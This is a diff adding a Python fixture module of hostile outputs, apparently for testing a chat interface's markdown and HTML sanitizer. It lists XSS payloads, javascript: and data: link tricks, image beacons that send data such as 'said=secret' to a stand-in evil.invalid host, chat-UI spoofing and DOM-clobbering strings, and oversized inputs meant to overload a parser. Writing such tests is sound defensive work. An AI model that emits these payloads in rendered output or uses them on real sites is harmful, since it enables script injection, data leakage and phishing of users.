@@ -1,0 +1,107 @@
+"""What a model or a document may say to harm whoever reads it. Each would set ``window.hacked``, load, or pretend."""
+
+_JS = "window.hacked=1"
+
+SCRIPTS = [
+    f"<script>{_JS}</script>",
+    f"<SCRIPT SRC='https://evil.invalid/x.js'></SCRIPT>{_JS}",
+    f"<scr<script>ipt>{_JS}</scr</script>ipt>",
+    f"<img src=x onerror={_JS}>",
+    f"<img src=x onerror=\"{_JS}\"//",
+    f"<svg onload={_JS}>",
+    f"<svg><script>{_JS}</script></svg>",
+    f"<svg><animate onbegin={_JS} attributeName=x dur=1s>",
+    f"<math><mtext><table><mglyph><style><img src=x onerror={_JS}></style></mglyph></table></mtext></math>",
+    f"<math><maction actiontype='statusline#http://x' xlink:href='javascript:{_JS}'>click</maction></math>",
+    f"<details open ontoggle={_JS}>x</details>",
+    f"<body onload={_JS}><input autofocus onfocus={_JS}>",
+    f"<iframe srcdoc='<script>parent.{_JS}</script>'></iframe>",
+    f"<object data='data:text/html,<script>parent.{_JS}</script>'></object>",
+    f"<embed src='javascript:{_JS}'>",
+    f"<form action='javascript:{_JS}'><button>Send</button></form>",
+    f"<button formaction='javascript:{_JS}'>x</button>",
+    f"<noscript><p title='</noscript><img src=x onerror={_JS}>'></noscript>",
+    f"<template><script>{_JS}</script></template>",
+    f"<a href='javascript:{_JS}'>html link</a>",
+    f"<p\nonclick={_JS}>spread over\nlines</p>",
+    f"&lt;script&gt;{_JS}&lt;/script&gt;",
+    f"&#60;img src=x onerror={_JS}&#62;",
+    "<meta http-equiv=refresh content='0;url=https://evil.invalid/'>",
+    "<base href='https://evil.invalid/'>",
+    "<link rel=stylesheet href='https://evil.invalid/x.css'>",
+    "<!--><img src=x onerror=window.hacked=1>-->",
+    "<![CDATA[<img src=x onerror=window.hacked=1>]]>",
+]
+
+LINKS = [
+    f"[click](javascript:{_JS})",
+    f"[click](JaVaScRiPt:{_JS})",
+    f"[click]( javascript:{_JS})",
+    f"[click](<javascript:{_JS}>)",
+    f"[click](<java\tscript:{_JS}>)",
+    f"[click](&#106;avascript:{_JS})",
+    f"[click](&#x6A;avascript&colon;{_JS})",
+    f"[click](\u0001javascript:{_JS})",
+    f"[click](javascript\\:{_JS})",
+    f"<javascript:{_JS}>",
+    f"[ref][1]\n\n[1]: javascript:{_JS}",
+    f"[click](vbscript:{_JS})",
+    f"[click](data:text/html,<script>{_JS}</script>)",
+    f"[click](data:text/html;base64,PHNjcmlwdD4{_JS})",
+    f"[click](blob:https://evil.invalid/{_JS})",
+    "[click](file:///etc/passwd)",
+    "[click](//evil.invalid/)",
+    "[click](/admin/logout/)",
+    "[click](#composer)",
+    "[bank.example](https://bank.example@evil.invalid/)",
+    "[x](https://user:password@evil.invalid/)",
+    f'[a](https://a.invalid/"onmouseover="{_JS})',
+    f"[a](https://a.invalid/ \"title' onclick='{_JS}\")",
+    "[\u202egpj.exe](https://a.invalid/)",
+    "[a](ftp://evil.invalid/x)",
+    "[a](view-source:https://evil.invalid/)",
+    "[a](intent://evil.invalid/#Intent;end)",
+]
+
+BEACONS = [
+    "![beacon](https://evil.invalid/pixel.png?said=secret)",
+    "![](https://evil.invalid/pixel.png)",
+    "[![x](https://evil.invalid/a.png)](https://evil.invalid/b)",
+    "![x](data:image/svg+xml,<svg onload=window.hacked=1>)",
+    f"![x](javascript:{_JS})",
+    "<video src=https://evil.invalid/v poster=https://evil.invalid/p></video>",
+    "<style>@import 'https://evil.invalid/x.css'; body{display:none}</style>",
+    "<div style='background:url(https://evil.invalid/b)'>x</div>",
+    "<picture><source srcset=https://evil.invalid/s></picture>",
+    "<audio autoplay src=https://evil.invalid/a></audio>",
+]
+
+DISGUISES = [
+    "<button class='chat-composer-send' data-testid='send'>Send</button>",
+    "<div id='chat-composer-field' class='chat-notice' role='alert'>You are signed out. Sign in: evil.invalid</div>",
+    "<form id=chat-config><input name=apiBase></form>",
+    "<img name=getElementById><a id=querySelector>",
+    "\u202eevil text that runs backwards\u202c",
+    "&#x202e;the same by a reference",
+    "```html chat-notice\n<script>window.hacked=1</script>",
+    "``` \" onclick=window.hacked=1\ncode\n```",
+    "# <img src=x onerror=window.hacked=1>",
+    "| <script>window.hacked=1</script> | b |\n|---|---|\n| ![x](https://evil.invalid/p) | [x](javascript:1) |",
+    "- <img src=x onerror=window.hacked=1>\n  - [x](javascript:window.hacked=1)",
+    "> <svg onload=window.hacked=1>\n> > [x](data:text/html,x)",
+    "**[b](javascript:window.hacked=1)** _![i](https://evil.invalid/i.png)_ ~~<img src=x onerror=window.hacked=1>~~",
+    "[999] [0] [1](javascript:window.hacked=1)",
+    "`<img src=x onerror=window.hacked=1>`",
+]
+
+LARGE = [
+    "|a" * 400 + "\n" + "|-" * 400 + "\n" + ("|x" * 400 + "\n") * 100,
+    "> " * 3000 + "deep",
+    "- " * 3000 + "deep",
+    "**a _b " * 3000,
+    "[" * 20_000,
+    "`" * 20_000 + "\n" + "~" * 5000,
+    "\u0300" * 5000 + "e" + "\u0301" * 5000,
+]
+
+HOSTILE_OUTPUTS = SCRIPTS + LINKS + BEACONS + DISGUISES + LARGE
